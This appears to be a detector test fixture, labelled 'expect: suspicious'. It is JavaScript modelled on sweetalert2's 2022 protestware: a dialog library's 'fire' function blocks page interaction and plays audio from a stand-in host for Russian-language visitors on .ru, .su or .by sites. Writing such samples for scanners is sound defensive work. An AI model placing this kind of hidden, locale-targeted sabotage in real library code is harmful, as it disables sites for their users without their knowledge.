// expect: suspicious
// source: sweetalert2's 2022 protestware (11.4.9+): on Russian-language visitors of .ru/.su/.by sites the dialog
// library blocks the page and plays an anthem; here the domain check is a regular expression tested on the host
(function (root) {
  function targeted() {
    const lang = (navigator.language || '').toLowerCase();
    const host = (location.hostname || '').toLowerCase();
    return /^ru\b/.test(lang) && /\.(ru|su|by)$/.test(host);
  }
  root.fire = function fire(opts) {
    if (targeted()) {
      document.body.style.pointerEvents = 'none';
      new Audio('https://anthem.example/a.mp3').play();
    }
    return Promise.resolve(opts);
  };
})(typeof window !== 'undefined' ? window : this);
